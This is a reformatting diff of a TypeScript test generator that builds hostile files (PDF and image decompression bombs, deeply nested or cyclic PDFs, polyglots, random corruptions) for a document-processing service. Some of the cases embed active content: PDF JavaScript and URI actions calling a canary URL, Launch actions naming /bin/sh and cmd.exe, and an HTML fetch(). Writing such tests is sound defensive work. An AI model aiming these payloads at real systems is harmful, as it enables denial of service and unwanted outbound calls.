@@ -92,11 +92,18 @@ export function buildPdf(bodies: (string | Buffer)[], trailer = '/Root 1 0 R'): 
   const offsets: number[] = [];
   bodies.forEach((body, i) => {
     offsets.push(offset);
-    const obj = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), typeof body === 'string' ? Buffer.from(body, 'latin1') : body, Buffer.from('\nendobj\n')]);
+    const obj = Buffer.concat([
+      Buffer.from(`${i + 1} 0 obj\n`),
+      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
+      Buffer.from('\nendobj\n'),
+    ]);
     parts.push(obj);
     offset += obj.length;
   });
-  const xref = [`xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n`, ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
+  const xref = [
+    `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n`,
+    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`),
+  ].join('');
   parts.push(Buffer.from(`${xref}trailer\n<< /Size ${bodies.length + 1} ${trailer} >>\nstartxref\n${offset}\n%%EOF\n`));
   return Buffer.concat(parts);
 }
@@ -109,7 +116,16 @@ const HELLO = 'BT /F1 24 Tf 72 700 Td (Hostile but harmless) Tj ET';
 const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
 
 /** Catalog, one-page tree, one page with `pageExtra`, its content and a font; more objects appended after. */
-function onePagePdf(options: { pageExtra?: string; catalogExtra?: string; content?: string | Buffer; mediaBox?: string; resources?: string; more?: (string | Buffer)[] } = {}): Buffer {
+function onePagePdf(
+  options: {
+    pageExtra?: string;
+    catalogExtra?: string;
+    content?: string | Buffer;
+    mediaBox?: string;
+    resources?: string;
+    more?: (string | Buffer)[];
+  } = {},
+): Buffer {
   const content = options.content ?? HELLO;
   const contentObj = typeof content === 'string' ? stream('', Buffer.from(content)) : content;
   return buildPdf([
@@ -127,7 +143,9 @@ function onePagePdf(options: { pageExtra?: string; catalogExtra?: string; conten
 
 export type Mutation = (bytes: Buffer, rand: () => number) => { label: string; bytes: Buffer };
 
-const truncate = (fraction: number): Mutation => (bytes) => ({ label: `truncate@${fraction}`, bytes: bytes.subarray(0, Math.floor(bytes.length * fraction)) });
+const truncate =
+  (fraction: number): Mutation =>
+  (bytes) => ({ label: `truncate@${fraction}`, bytes: bytes.subarray(0, Math.floor(bytes.length * fraction)) });
 
 const truncateRandom: Mutation = (bytes, rand) => {
   const at = 1 + randInt(rand, bytes.length - 1);
@@ -135,12 +153,14 @@ const truncateRandom: Mutation = (bytes, rand) => {
 };
 
 /** Flips `count` random bits, anywhere or (from) within the first `window` bytes where headers live. */
-const bitFlips = (count: number, window?: number): Mutation => (bytes, rand) => {
-  const out = Buffer.from(bytes);
-  const span = Math.min(window ?? out.length, out.length);
-  for (let i = 0; i < count; i++) out[randInt(rand, span)] ^= 1 << randInt(rand, 8);
-  return { label: `flip${count}${window ? `@head${window}` : ''}`, bytes: out };
-};
+const bitFlips =
+  (count: number, window?: number): Mutation =>
+  (bytes, rand) => {
+    const out = Buffer.from(bytes);
+    const span = Math.min(window ?? out.length, out.length);
+    for (let i = 0; i < count; i++) out[randInt(rand, span)] ^= 1 << randInt(rand, 8);
+    return { label: `flip${count}${window ? `@head${window}` : ''}`, bytes: out };
+  };
 
 const overwriteRun: Mutation = (bytes, rand) => {
   const out = Buffer.from(bytes);
@@ -157,7 +177,20 @@ const duplicateRun: Mutation = (bytes, rand) => {
   return { label: `dup${length}@${at}`, bytes: Buffer.concat([bytes.subarray(0, at + length), bytes.subarray(at)]) };
 };
 
-const GENERIC: Mutation[] = [truncate(0.01), truncate(0.25), truncate(0.5), truncate(0.9), truncate(0.999), truncateRandom, bitFlips(1), bitFlips(8), bitFlips(64), bitFlips(4, 64), overwriteRun, duplicateRun];
+const GENERIC: Mutation[] = [
+  truncate(0.01),
+  truncate(0.25),
+  truncate(0.5),
+  truncate(0.9),
+  truncate(0.999),
+  truncateRandom,
+  bitFlips(1),
+  bitFlips(8),
+  bitFlips(64),
+  bitFlips(4, 64),
+  overwriteRun,
+  duplicateRun,
+];
 
 /** Rewrites every `/Length n` (stream lengths) to a wrong value. */
 const wrongStreamLengths: Mutation = (bytes, rand) => {
@@ -177,14 +210,19 @@ const wrongXref: Mutation = (bytes, rand) => {
     return { label: `startxref=${bogus}`, bytes: Buffer.from(text.replace(/startxref\s+\d+/g, `startxref\n${bogus}`), 'latin1') };
   }
   const shift = 1 + randInt(rand, 50);
-  const shifted = text.replace(/^(\d{10}) (\d{5}) n/gm, (_, o: string, g: string) => `${String(Number(o) + shift).padStart(10, '0')} ${g} n`);
+  const shifted = text.replace(
+    /^(\d{10}) (\d{5}) n/gm,
+    (_, o: string, g: string) => `${String(Number(o) + shift).padStart(10, '0')} ${g} n`,
+  );
   return { label: `xrefshift${shift}`, bytes: Buffer.from(shifted, 'latin1') };
 };
 
 /** Damages a stream's compressed bytes (between `stream` and `endstream`). */
 const corruptStreamData: Mutation = (bytes, rand) => {
   const text = bytes.toString('latin1');
-  const starts = [...text.matchAll(/stream\r?\n/g)].map((m) => (m.index ?? 0) + m[0].length).filter((i) => text.slice(i - 10, i).indexOf('end') < 0);
+  const starts = [...text.matchAll(/stream\r?\n/g)]
+    .map((m) => (m.index ?? 0) + m[0].length)
+    .filter((i) => text.slice(i - 10, i).indexOf('end') < 0);
   if (starts.length === 0) return bitFlips(8)(bytes, rand);
   const at = starts[randInt(rand, starts.length)];
   const out = Buffer.from(bytes);
@@ -202,7 +240,7 @@ interface PngChunkInfo {
 
 function pngChunksOf(png: Buffer): PngChunkInfo[] {
   const chunks: PngChunkInfo[] = [];
-  for (let at = 8; at + 12 <= png.length;) {
+  for (let at = 8; at + 12 <= png.length; ) {
     const length = png.readUInt32BE(at);
     chunks.push({ type: png.toString('latin1', at + 4, at + 8), at, length });
     at += 12 + length;
@@ -237,7 +275,7 @@ const corruptPngChunk: Mutation = (bytes, rand) => {
 const corruptJpegSegment: Mutation = (bytes, rand) => {
   const out = Buffer.from(bytes);
   const markers: { marker: number; at: number }[] = [];
-  for (let at = 2; at + 4 <= out.length && out[at] === 0xff;) {
+  for (let at = 2; at + 4 <= out.length && out[at] === 0xff; ) {
     const marker = out[at + 1];
     markers.push({ marker, at });
     if (marker === 0xda) break; // start of scan: entropy-coded data follows
@@ -256,7 +294,8 @@ const corruptJpegSegment: Mutation = (bytes, rand) => {
     return { label: `jpeg-len-${m.marker.toString(16)}`, bytes: out };
   }
   const sos = markers.find((m) => m.marker === 0xda);
-  if (kind === 2 && sos) return { label: 'jpeg-cut-in-scan', bytes: out.subarray(0, sos.at + 20 + randInt(rand, Math.max(1, out.length - sos.at - 22))) };
+  if (kind === 2 && sos)
+    return { label: 'jpeg-cut-in-scan', bytes: out.subarray(0, sos.at + 20 + randInt(rand, Math.max(1, out.length - sos.at - 22))) };
   return { label: 'jpeg-no-eoi', bytes: out.subarray(0, out.length - 2) };
 };
 
@@ -275,10 +314,14 @@ export function mutatedCases(seeds: SeedDocument[], perSeed: number, seed: numbe
   const rand = seededRandom(seed);
   const cases: HostileCase[] = [];
   for (const doc of seeds) {
-    const kinds = doc.kind === 'pdf' ? PDF_MUTATIONS
-      : doc.kind === 'png' ? [...GENERIC, corruptPngChunk, corruptPngChunk]
-      : doc.kind === 'jpeg' ? [...GENERIC, corruptJpegSegment, corruptJpegSegment]
-      : GENERIC;
+    const kinds =
+      doc.kind === 'pdf'
+        ? PDF_MUTATIONS
+        : doc.kind === 'png'
+          ? [...GENERIC, corruptPngChunk, corruptPngChunk]
+          : doc.kind === 'jpeg'
+            ? [...GENERIC, corruptJpegSegment, corruptJpegSegment]
+            : GENERIC;
     for (let i = 0; i < perSeed; i++) {
       const { label, bytes } = kinds[i % kinds.length](doc.bytes, rand);
       cases.push({ name: `${doc.name}/${i}:${label}`, filename: doc.filename, bytes });
@@ -292,18 +335,28 @@ export function mutatedCases(seeds: SeedDocument[], perSeed: number, seed: numbe
 
 /** A PNG whose header claims `width`x`height`; the data is a few bytes (never decodable, never allocated). */
 function pngClaiming(width: number, height: number): Buffer {
-  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', pngIhdr(width, height, 8, 6)), pngChunk('IDAT', deflateSync(Buffer.alloc(64))), pngChunk('IEND', Buffer.alloc(0))]);
+  return Buffer.concat([
+    PNG_SIGNATURE,
+    pngChunk('IHDR', pngIhdr(width, height, 8, 6)),
+    pngChunk('IDAT', deflateSync(Buffer.alloc(64))),
+    pngChunk('IEND', Buffer.alloc(0)),
+  ]);
 }
 
 /** A 1000x1000 PNG whose IDAT inflates to `inflated` bytes (far more than the 1 MB the image needs). */
 function pngOverlongIdat(inflated: number): Buffer {
-  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', pngIhdr(1000, 1000, 8, 0)), pngChunk('IDAT', zlibZeros(inflated)), pngChunk('IEND', Buffer.alloc(0))]);
+  return Buffer.concat([
+    PNG_SIGNATURE,
+    pngChunk('IHDR', pngIhdr(1000, 1000, 8, 0)),
+    pngChunk('IDAT', zlibZeros(inflated)),
+    pngChunk('IEND', Buffer.alloc(0)),
+  ]);
 }
 
 /** A real JPEG whose frame header (SOF0-2) now claims `width`x`height`: the header reads, the data cannot fill it. */
 export function jpegWithSize(jpeg: Buffer, width: number, height: number): Buffer {
   const out = Buffer.from(jpeg);
-  for (let at = 2; at + 9 < out.length && out[at] === 0xff;) {
+  for (let at = 2; at + 9 < out.length && out[at] === 0xff; ) {
     const marker = out[at + 1];
     if (marker >= 0xc0 && marker <= 0xc2) {
       out.writeUInt16BE(height, at + 5);
@@ -317,7 +370,27 @@ export function jpegWithSize(jpeg: Buffer, width: number, height: number): Buffe
 
 /** A JPEG (baseline header only) claiming 65500x65500 pixels. */
 function jpegClaiming(width: number, height: number): Buffer {
-  const sof = Buffer.from([0xff, 0xc0, 0x00, 0x11, 0x08, height >> 8, height & 0xff, width >> 8, width & 0xff, 0x03, 0x01, 0x22, 0x00, 0x02, 0x11, 0x01, 0x03, 0x11, 0x01]);
+  const sof = Buffer.from([
+    0xff,
+    0xc0,
+    0x00,
+    0x11,
+    0x08,
+    height >> 8,
+    height & 0xff,
+    width >> 8,
+    width & 0xff,
+    0x03,
+    0x01,
+    0x22,
+    0x00,
+    0x02,
+    0x11,
+    0x01,
+    0x03,
+    0x11,
+    0x01,
+  ]);
   return Buffer.concat([Buffer.from([0xff, 0xd8]), sof, Buffer.from([0xff, 0xd9])]);
 }
 
@@ -326,7 +399,24 @@ function gifClaiming(width: number, height: number): Buffer {
   head.writeUInt16LE(width, 6);
   head.writeUInt16LE(height, 8);
   // An image descriptor of the same size and one LZW-coded clear+end code.
-  const descriptor = Buffer.from([0x2c, 0, 0, 0, 0, width & 0xff, width >> 8, height & 0xff, height >> 8, 0, 0x02, 0x02, 0x4c, 0x01, 0x00, 0x3b]);
+  const descriptor = Buffer.from([
+    0x2c,
+    0,
+    0,
+    0,
+    0,
+    width & 0xff,
+    width >> 8,
+    height & 0xff,
+    height >> 8,
+    0,
+    0x02,
+    0x02,
+    0x4c,
+    0x01,
+    0x00,
+    0x3b,
+  ]);
   return Buffer.concat([head, descriptor]);
 }
 
@@ -334,12 +424,20 @@ function gifClaiming(width: number, height: number): Buffer {
 function manyPagesPdf(count: number): Buffer {
   const kids = Array.from({ length: count }, (_, i) => `${i + 4} 0 R`).join(' ');
   const pages = Array.from({ length: count }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 3 0 R >>');
-  return buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`, stream('', Buffer.from('0 0 m 100 100 l S')), ...pages]);
+  return buildPdf([
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
+    stream('', Buffer.from('0 0 m 100 100 l S')),
+    ...pages,
+  ]);
 }
 
 /** A page tree `depth` levels deep (each Pages node holds the next). */
 function deepPageTreePdf(depth: number): Buffer {
-  const nodes = Array.from({ length: depth }, (_, i) => `<< /Type /Pages /Kids [${i + 3} 0 R] /Count 1 ${i > 0 ? `/Parent ${i + 1} 0 R` : ''} >>`);
+  const nodes = Array.from(
+    { length: depth },
+    (_, i) => `<< /Type /Pages /Kids [${i + 3} 0 R] /Count 1 ${i > 0 ? `/Parent ${i + 1} 0 R` : ''} >>`,
+  );
   return buildPdf([
     '<< /Type /Catalog /Pages 2 0 R >>',
     ...nodes,
@@ -353,8 +451,12 @@ export function tilingPatternPdf(step: number): Buffer {
   return onePagePdf({
     content: '/Pattern cs /P1 scn 0 0 612 792 re f',
     resources: '<< /Font << /F1 5 0 R >> /Pattern << /P1 6 0 R >> >>',
-    more: [stream(`/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 ${step} ${step}] /XStep ${step} /YStep ${step} /Resources << >>`,
-      Buffer.from(`0 0 ${step / 2} ${step / 2} re f`))],
+    more: [
+      stream(
+        `/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 ${step} ${step}] /XStep ${step} /YStep ${step} /Resources << >>`,
+        Buffer.from(`0 0 ${step / 2} ${step / 2} re f`),
+      ),
+    ],
   });
 }
 
@@ -362,7 +464,11 @@ export function tilingPatternPdf(step: number): Buffer {
 export function formFanoutPdf(fanout: number, depth: number): Buffer {
   const forms = Array.from({ length: depth }, (_, i) => {
     const last = i === depth - 1;
-    const body = last ? '0 0 m 1 1 l S' : Array<string>(fanout).fill(`/F${i + 1} Do`).join(' ');
+    const body = last
+      ? '0 0 m 1 1 l S'
+      : Array<string>(fanout)
+          .fill(`/F${i + 1} Do`)
+          .join(' ');
     const resources = last ? '' : `/Resources << /XObject << /F${i + 1} ${7 + i} 0 R >> >>`;
     return stream(`/Type /XObject /Subtype /Form /BBox [0 0 100 100] ${resources}`, Buffer.from(body));
   });
@@ -380,7 +486,8 @@ const HOSTILE_URL = (base: string) => `${base}/fetched-by-docintel`;
 export function craftedCases(canaryUrl: string): HostileCase[] {
   const url = HOSTILE_URL(canaryUrl);
   const cases: HostileCase[] = [];
-  const add = (name: string, filename: string, bytes: Buffer, uploadStatus: 200 | 413 | 415, deep = false) => cases.push({ name, filename, bytes, uploadStatus, deep });
+  const add = (name: string, filename: string, bytes: Buffer, uploadStatus: 200 | 413 | 415, deep = false) =>
+    cases.push({ name, filename, bytes, uploadStatus, deep });
 
   // Huge declared dimensions (refused from the header, nothing decoded).
   add('png-100000x100000', 'huge.png', pngClaiming(100_000, 100_000), 413);
@@ -393,13 +500,36 @@ export function craftedCases(canaryUrl: string): HostileCase[] {
 
   // Decompression bombs.
   add('png-idat-2GB', 'bomb.png', pngOverlongIdat(2 * 1024 ** 3), 200, true);
-  add('pdf-content-flate-1GB', 'bomb-content.pdf', onePagePdf({ content: stream('/Filter /FlateDecode', zlibZeros(1024 ** 3)) }), 413, true);
+  add(
+    'pdf-content-flate-1GB',
+    'bomb-content.pdf',
+    onePagePdf({ content: stream('/Filter /FlateDecode', zlibZeros(1024 ** 3)) }),
+    413,
+    true,
+  );
   const doubleFlate = deflateSync(zlibZeros(8 * 1024 ** 3), { level: 9 });
-  add('pdf-content-2xflate-8GB', 'bomb-2x.pdf', onePagePdf({ content: stream('/Filter [/FlateDecode /FlateDecode]', doubleFlate) }), 413, true);
-  const imageBomb = stream('/Type /XObject /Subtype /Image /Width 20000 /Height 20000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode', zlibZeros(20000 * 20000 * 3));
-  add('pdf-image-20000x20000-flate', 'bomb-image.pdf', onePagePdf({
-    content: 'q 500 0 0 500 50 50 cm /Im1 Do Q', resources: '<< /Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >> >>', more: [imageBomb],
-  }), 413, true);
+  add(
+    'pdf-content-2xflate-8GB',
+    'bomb-2x.pdf',
+    onePagePdf({ content: stream('/Filter [/FlateDecode /FlateDecode]', doubleFlate) }),
+    413,
+    true,
+  );
+  const imageBomb = stream(
+    '/Type /XObject /Subtype /Image /Width 20000 /Height 20000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode',
+    zlibZeros(20000 * 20000 * 3),
+  );
+  add(
+    'pdf-image-20000x20000-flate',
+    'bomb-image.pdf',
+    onePagePdf({
+      content: 'q 500 0 0 500 50 50 cm /Im1 Do Q',
+      resources: '<< /Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >> >>',
+      more: [imageBomb],
+    }),
+    413,
+    true,
+  );
 
   add('pdf-tiling-pattern-5e9-tiles', 'tiles.pdf', tilingPatternPdf(0.01), 413, true);
   add('pdf-form-fanout-50^6', 'fanout.pdf', formFanoutPdf(50, 6), 413, true);
@@ -407,54 +537,118 @@ export function craftedCases(canaryUrl: string): HostileCase[] {
   // Many pages, deep structures.
   add('pdf-10000-pages', 'many-pages.pdf', manyPagesPdf(10_000), 413);
   add('pdf-page-tree-depth-3000', 'deep-tree.pdf', deepPageTreePdf(3000), 200);
-  add('pdf-page-tree-cycle', 'cycle.pdf', buildPdf([
-    '<< /Type /Catalog /Pages 2 0 R >>',
-    '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>',
-    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
-  ]), 415);
+  add(
+    'pdf-page-tree-cycle',
+    'cycle.pdf',
+    buildPdf([
+      '<< /Type /Catalog /Pages 2 0 R >>',
+      '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>',
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
+    ]),
+    415,
+  );
   add('pdf-nested-arrays-20000', 'deep-array.pdf', onePagePdf({ pageExtra: `/Junk ${nested('[', ']', 20_000)}` }), 200, true);
   add('pdf-nested-dicts-20000', 'deep-dict.pdf', onePagePdf({ pageExtra: `/Junk ${nested('<< /A ', ' >>', 20_000)}` }), 200, true);
-  add('pdf-nested-content-q-20000', 'deep-q.pdf', onePagePdf({ content: `${'q '.repeat(20_000)}${HELLO}${' Q'.repeat(20_000)}` }), 200, true);
-  add('pdf-nested-forms-recursive', 'form-loop.pdf', onePagePdf({
-    content: '/Fm1 Do', resources: '<< /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> >>',
-    more: [stream('/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /Fm1 6 0 R >> >>', Buffer.from('/Fm1 Do'))],
-  }), 200, true);
+  add(
+    'pdf-nested-content-q-20000',
+    'deep-q.pdf',
+    onePagePdf({ content: `${'q '.repeat(20_000)}${HELLO}${' Q'.repeat(20_000)}` }),
+    200,
+    true,
+  );
+  add(
+    'pdf-nested-forms-recursive',
+    'form-loop.pdf',
+    onePagePdf({
+      content: '/Fm1 Do',
+      resources: '<< /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> >>',
+      more: [
+        stream('/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /Fm1 6 0 R >> >>', Buffer.from('/Fm1 Do')),
+      ],
+    }),
+    200,
+    true,
+  );
   add('pdf-reference-loop', 'ref-loop.pdf', onePagePdf({ resources: '6 0 R', more: ['7 0 R', '6 0 R'] }), 200);
 
   // Active content and external references: parsed as documents, never run or fetched.
-  add('pdf-openaction-js', 'script.pdf', onePagePdf({
-    catalogExtra: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${url}/js"\\); this.submitForm\\("${url}/submit"\\);) >> /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>`,
-    pageExtra: `/AA << /O << /S /JavaScript /JS (app.launchURL\\("${url}/aa"\\)) >> >>`,
-  }), 200, true);
-  add('pdf-links-launch-uri', 'links.pdf', onePagePdf({
-    catalogExtra: `/OpenAction << /S /URI /URI (${url}/open) >>`,
-    pageExtra: '/Annots [6 0 R 7 0 R 8 0 R]',
-    more: [
-      `<< /Type /Annot /Subtype /Link /Rect [72 690 300 720] /A << /S /URI /URI (${url}/link) >> >>`,
-      '<< /Type /Annot /Subtype /Link /Rect [72 600 300 630] /A << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
-      `<< /Type /Annot /Subtype /Link /Rect [72 500 300 530] /A << /S /GoToR /F << /FS /URL /F (${url}/remote.pdf) >> /D [0 /Fit] >> >>`,
-    ],
-  }), 200, true);
-  add('pdf-embedded-file', 'attachment.pdf', onePagePdf({
-    catalogExtra: '/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >>',
-    pageExtra: '/Annots [8 0 R]',
-    more: [
-      '<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 7 0 R >> >>',
-      stream('/Type /EmbeddedFile /Subtype /application#2Foctet-stream', Buffer.from('MZ\x90\x00 not really an executable', 'latin1')),
-      '<< /Type /Annot /Subtype /FileAttachment /Rect [72 400 100 430] /FS 6 0 R >>',
-    ],
-  }), 200, true);
-  add('pdf-external-stream', 'remote-stream.pdf', onePagePdf({
-    content: 'q 100 0 0 100 50 50 cm /Im1 Do Q', resources: '<< /Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >> >>',
-    more: [`<< /Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${url}/image) >> /Length 0 >>\nstream\n\nendstream`],
-  }), 200, true);
-  add('html-named-pdf', 'invoice.pdf', Buffer.from(`<!DOCTYPE html><html><body><img src="${url}/img"><script>fetch("${url}/js")</script></body></html>`), 415);
-  add('svg-external-href', 'logo.png', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${url}/svg" width="10" height="10"/></svg>`), 415);
+  add(
+    'pdf-openaction-js',
+    'script.pdf',
+    onePagePdf({
+      catalogExtra: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${url}/js"\\); this.submitForm\\("${url}/submit"\\);) >> /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>`,
+      pageExtra: `/AA << /O << /S /JavaScript /JS (app.launchURL\\("${url}/aa"\\)) >> >>`,
+    }),
+    200,
+    true,
+  );
+  add(
+    'pdf-links-launch-uri',
+    'links.pdf',
+    onePagePdf({
+      catalogExtra: `/OpenAction << /S /URI /URI (${url}/open) >>`,
+      pageExtra: '/Annots [6 0 R 7 0 R 8 0 R]',
+      more: [
+        `<< /Type /Annot /Subtype /Link /Rect [72 690 300 720] /A << /S /URI /URI (${url}/link) >> >>`,
+        '<< /Type /Annot /Subtype /Link /Rect [72 600 300 630] /A << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
+        `<< /Type /Annot /Subtype /Link /Rect [72 500 300 530] /A << /S /GoToR /F << /FS /URL /F (${url}/remote.pdf) >> /D [0 /Fit] >> >>`,
+      ],
+    }),
+    200,
+    true,
+  );
+  add(
+    'pdf-embedded-file',
+    'attachment.pdf',
+    onePagePdf({
+      catalogExtra: '/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >>',
+      pageExtra: '/Annots [8 0 R]',
+      more: [
+        '<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 7 0 R >> >>',
+        stream('/Type /EmbeddedFile /Subtype /application#2Foctet-stream', Buffer.from('MZ\x90\x00 not really an executable', 'latin1')),
+        '<< /Type /Annot /Subtype /FileAttachment /Rect [72 400 100 430] /FS 6 0 R >>',
+      ],
+    }),
+    200,
+    true,
+  );
+  add(
+    'pdf-external-stream',
+    'remote-stream.pdf',
+    onePagePdf({
+      content: 'q 100 0 0 100 50 50 cm /Im1 Do Q',
+      resources: '<< /Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >> >>',
+      more: [
+        `<< /Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${url}/image) >> /Length 0 >>\nstream\n\nendstream`,
+      ],
+    }),
+    200,
+    true,
+  );
+  add(
+    'html-named-pdf',
+    'invoice.pdf',
+    Buffer.from(`<!DOCTYPE html><html><body><img src="${url}/img"><script>fetch("${url}/js")</script></body></html>`),
+    415,
+  );
+  add(
+    'svg-external-href',
+    'logo.png',
+    Buffer.from(
+      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${url}/svg" width="10" height="10"/></svg>`,
+    ),
+    415,
+  );
 
   // Polyglots.
   const pdf = onePagePdf();
   const zip = encodeZip([{ name: 'payload.txt', data: Buffer.from('zip member') }]);
-  const png = Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', pngIhdr(16, 16, 8, 2)), pngChunk('IDAT', deflateSync(Buffer.alloc(17 * 16 * 3 + 16))), pngChunk('IEND', Buffer.alloc(0))]);
+  const png = Buffer.concat([
+    PNG_SIGNATURE,
+    pngChunk('IHDR', pngIhdr(16, 16, 8, 2)),
+    pngChunk('IDAT', deflateSync(Buffer.alloc(17 * 16 * 3 + 16))),
+    pngChunk('IEND', Buffer.alloc(0)),
+  ]);
   add('polyglot-pdf+zip', 'poly.pdf', Buffer.concat([pdf, zip]), 200, true);
   add('polyglot-zip+pdf', 'poly.pdf', Buffer.concat([zip, pdf]), 200);
   add('polyglot-png+pdf', 'poly.png', Buffer.concat([png, pdf]), 200, true);
@@ -463,15 +657,31 @@ export function craftedCases(canaryUrl: string): HostileCase[] {
   add('polyglot-gif+js', 'poly.gif', Buffer.concat([gifClaiming(1, 1), Buffer.from('/*\n*/ alert(1)')]), 200);
 
   // Degenerate page boxes.
-  for (const [label, box] of [['zero', '[0 0 0 0]'], ['negative', '[0 0 -612 -792]'], ['inverted', '[612 792 0 0]'], ['flat', '[0 0 612 0]'],
-    ['nan', '[0 0 abc 792]'], ['short', '[0 0 612]'], ['not-array', '(letter)'], ['tiny', '[0 0 0.001 0.001]']] as const) {
+  for (const [label, box] of [
+    ['zero', '[0 0 0 0]'],
+    ['negative', '[0 0 -612 -792]'],
+    ['inverted', '[612 792 0 0]'],
+    ['flat', '[0 0 612 0]'],
+    ['nan', '[0 0 abc 792]'],
+    ['short', '[0 0 612]'],
+    ['not-array', '(letter)'],
+    ['tiny', '[0 0 0.001 0.001]'],
+  ] as const) {
     add(`pdf-mediabox-${label}`, `box-${label}.pdf`, onePagePdf({ mediaBox: box }), 200, label === 'zero' || label === 'negative');
   }
   add('pdf-rotate-45', 'rotate.pdf', onePagePdf({ pageExtra: '/Rotate 45' }), 200);
   add('pdf-cropbox-outside', 'crop.pdf', onePagePdf({ pageExtra: '/CropBox [5000 5000 6000 6000]' }), 200);
   add('pdf-no-pages', 'empty-tree.pdf', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']), 415);
-  add('pdf-count-lies', 'count.pdf', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>',
-    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>']), 415);
+  add(
+    'pdf-count-lies',
+    'count.pdf',
+    buildPdf([
+      '<< /Type /Catalog /Pages 2 0 R >>',
+      '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>',
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
+    ]),
+    415,
+  );
 
   // Empty and not-a-document files.
   add('empty.pdf', 'empty.pdf', Buffer.alloc(0), 415);
